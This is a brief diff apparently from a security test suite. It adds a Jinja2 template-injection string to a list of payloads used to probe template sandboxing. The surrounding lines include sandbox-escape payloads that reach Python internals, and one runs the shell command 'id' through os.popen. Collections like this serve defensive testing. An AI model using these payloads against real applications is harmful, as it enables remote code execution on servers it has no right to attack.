@@ -25,6 +25,7 @@ PAYLOADS = [
     "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
     "{{ question['__class__'] }}",
     "{{ question|attr('__class__') }}",
+    "{{ question|list|join(',', attribute='__class__') }}",
     "{{ lipsum.__globals__['os'].popen('id').read() }}",
     "{{ namespace.__init__.__globals__ }}",
     "{{ range.__self__ }}",
